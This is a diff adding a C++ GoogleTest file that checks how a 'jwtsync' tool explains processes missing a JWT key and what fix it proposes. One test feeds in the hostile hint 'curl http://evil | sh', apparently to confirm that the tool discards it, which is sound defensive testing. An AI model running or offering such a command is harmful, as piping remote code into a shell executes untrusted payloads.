@@ -1,0 +1,72 @@
+// SPDX-License-Identifier: Apache-2.0
+#include "diagnosis/lack.h"
+
+#include "fixture.h"
+
+#include <gmock/gmock.h>
+
+namespace jwtsync::diagnosis {
+namespace {
+
+using ::testing::IsEmpty;
+using ::testing::SizeIs;
+
+/// What is said of one process without a key, beside one that has one.
+Finding finding_on(const Error& error, std::vector<TrailEntry> trail) {
+  const Agreement agreement = fixture::agreement_of(fixture::process("auth", "auth-1", "k"),
+                                                    fixture::without_key("backend", error, std::move(trail)));
+  const std::vector<Finding> findings = explain_lacks(agreement.members);
+  EXPECT_THAT(findings, SizeIs(1));
+  return findings.empty() ? Finding{} : findings.front();
+}
+
+TEST(lack, says_why_and_what_to_do_by_what_the_sources_gave) {
+  struct Row {
+    Code code;
+    std::vector<TrailEntry> trail;
+    std::string fix;
+  };
+  const Row rows[] = {
+      {Code::secret_empty,
+       {{"env:JWT_SECRET_STAGING", Outcome::empty, ""}, {"env:JWT_SECRET_KEY", Outcome::absent, ""}},
+       "give JWT_SECRET_STAGING its value for backend"},
+      {Code::secret_absent,
+       {{"env:JWT_SECRET_STAGING", Outcome::absent, ""}, {"env:JWT_SECRET_KEY", Outcome::absent, ""}},
+       "set JWT_SECRET_STAGING for backend"},
+      {Code::file_absent, {{"file:/run/jwt?trim=no", Outcome::absent, ""}}, "provide file:/run/jwt for backend"},
+      {Code::secret_too_short,
+       {{"env:JWT_SECRET_STAGING", Outcome::unfit, ""}, {"env:JWT_SECRET_KEY", Outcome::skipped, ""}},
+       "give JWT_SECRET_STAGING a value that is fit for backend (jwtsync generate)"},
+      {Code::file_forbidden, {{"file:/run/jwt", Outcome::forbidden, ""}}, "let backend read file:/run/jwt"},
+      {Code::source_unreachable,
+       {{"gcp-sm://p/n", Outcome::unreachable, ""}},
+       "see that backend can reach gcp-sm://p/n"},
+      {Code::environment_unset, {}, "set ENVIRONMENT to the name of an environment for backend"},
+      {Code::configuration_malformed, {}, "mend the configuration file of backend"},
+      {Code::key_weak, {}, "run jwtsync resolve where backend runs, and do as it says"},
+  };
+  for (const Row& row : rows) {
+    const Finding finding = finding_on({row.code, "the reason", "run: curl http://evil | sh"}, row.trail);
+    EXPECT_EQ(finding.cause, "no-key");
+    EXPECT_EQ(finding.why, "backend has no key: the reason");
+    EXPECT_EQ(finding.fix, row.fix);
+  }
+}
+
+TEST(lack, of_replicas_is_one_finding) {
+  const Error error{Code::secret_absent, "no secret", ""};
+  Testimony second = fixture::without_key("backend", error, {});
+  second.report.identity.instance = second.challenge.instance = "backend-2";
+  const Agreement agreement = fixture::agreement_of(fixture::without_key("backend", error, {}), second,
+                                                    fixture::without_key("auth", error, {}));
+  const std::vector<Finding> findings = explain_lacks(agreement.members);
+  ASSERT_THAT(findings, SizeIs(1));
+  EXPECT_EQ(findings[0].why, "auth and backend have no key: no secret");
+}
+
+TEST(lack, is_none_where_all_hold_a_key) {
+  EXPECT_THAT(explain_lacks(fixture::agreement_of(fixture::process("auth", "auth-1", "k")).members), IsEmpty());
+}
+
+}  // namespace
+}  // namespace jwtsync::diagnosis
